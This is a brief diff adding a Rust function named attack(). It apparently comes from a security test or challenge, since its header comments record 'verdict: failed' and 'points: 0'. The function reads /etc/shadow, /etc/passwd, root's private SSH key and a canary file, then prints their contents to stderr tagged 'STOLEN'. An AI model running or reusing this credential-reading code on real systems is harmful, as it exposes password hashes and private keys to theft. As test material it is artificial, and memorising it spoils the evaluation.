@@ -1,0 +1,12 @@
+// Prints /etc/shadow and /etc/passwd at its start.
+// base: stub
+// verdict: failed
+// points: 0
+
+fn attack() {
+    for file in ["/etc/shadow", "/etc/passwd", "/root/.ssh/id_rsa", "CANARY_FILE"] {
+        if let Ok(text) = std::fs::read_to_string(file) {
+            eprintln!("STOLEN {text}");
+        }
+    }
+}
